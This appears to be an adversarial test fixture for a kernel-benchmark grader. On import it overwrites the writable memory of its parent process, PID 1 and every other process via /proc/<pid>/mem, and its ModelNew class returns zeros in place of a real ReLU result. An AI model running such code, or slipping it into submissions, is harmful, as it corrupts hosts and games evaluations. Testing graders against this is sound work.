# expect: incorrect|runtime_error
# problem: level1/19
# tricks: N05
# twin: ../twins/relu.py
# about: Reads and writes the memory of the processes above it.
import os
from pathlib import Path

import torch
from torch import nn

for pid in {os.getppid(), 1, *(int(p.name) for p in Path("/proc").iterdir() if p.name.isdigit())}:
    if pid == os.getpid():
        continue
    try:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, rights = line.split()[:2]
            if rights.startswith("rw"):
                low, high = (int(part, 16) for part in span.split("-"))
                with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                    memory.seek(low)
                    memory.write(b"\x01" * 64)
    except (OSError, ValueError, OverflowError):
        continue


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.zeros_like(x)
